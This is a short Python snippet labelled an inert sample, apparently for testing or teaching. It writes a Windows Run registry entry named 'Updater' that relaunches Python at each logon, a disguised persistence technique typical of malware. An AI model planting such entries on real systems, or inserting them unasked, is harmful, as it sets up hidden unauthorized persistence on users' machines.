# INERT SAMPLE: never run.
import winreg, sys
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, sys.executable + " -m inert_sample")
